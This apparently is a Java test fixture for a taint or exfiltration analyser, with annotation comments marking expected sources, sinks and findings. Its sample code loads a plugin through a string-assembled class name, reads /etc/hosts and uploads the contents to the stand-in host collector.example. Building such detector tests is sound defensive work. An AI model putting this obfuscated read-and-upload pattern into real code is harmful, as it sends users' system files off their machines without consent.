// --- path: app/Plugins.java ---
// Classes by names that are put together; what they collect goes to whoever listens.
package app;

import java.util.ArrayList;
import java.util.List;

public class Plugins {
    private final List<Listener> listeners = new ArrayList<>();

    public void add(Listener listener) {
        listeners.add(listener);
    }

    public void run() throws Exception {
        Plugin plugin = (Plugin) Class.forName("app." + "Host" + "sPlugin").getDeclaredConstructor().newInstance();
        for (Listener listener : listeners) {
            listener.found(plugin.collect());
        }
    }

    public static void main(String[] args) throws Exception {
        Plugins plugins = new Plugins();
        plugins.add(new Uploader());
        plugins.add(size -> System.out.println(size.length()));
        plugins.run();
    }
}
// --- path: app/Plugin.java ---
package app;

public interface Plugin {
    String collect() throws Exception;
}
// --- path: app/Listener.java ---
package app;

public interface Listener {
    void found(String text) throws Exception;
}
// --- path: app/HostsPlugin.java ---
package app;

import java.nio.file.Files;
import java.nio.file.Paths;

public class HostsPlugin implements Plugin {
    @Override
    public String collect() throws Exception {
        return new String(Files.readAllBytes(Paths.get("/etc/hosts"))); //~ source(FILE) f1
    }
}
// --- path: app/VersionPlugin.java ---
package app;

public class VersionPlugin implements Plugin {
    @Override
    public String collect() {
        return "1.0";
    }
}
// --- path: app/Uploader.java ---
package app;

import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public class Uploader implements Listener {
    @Override
    public void found(String text) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://collector.example/u").openConnection();
        connection.setDoOutput(true);
        try (OutputStream out = connection.getOutputStream()) { //~ sink(egress.http) f1, finding(file-upload, ambiguous) f1
            out.write(text.getBytes());
        }
    }

    void version() throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://collector.example/v").openConnection();
        connection.setDoOutput(true);
        try (OutputStream out = connection.getOutputStream()) { //~ ok
            out.write(new VersionPlugin().collect().getBytes());
        }
    }
}
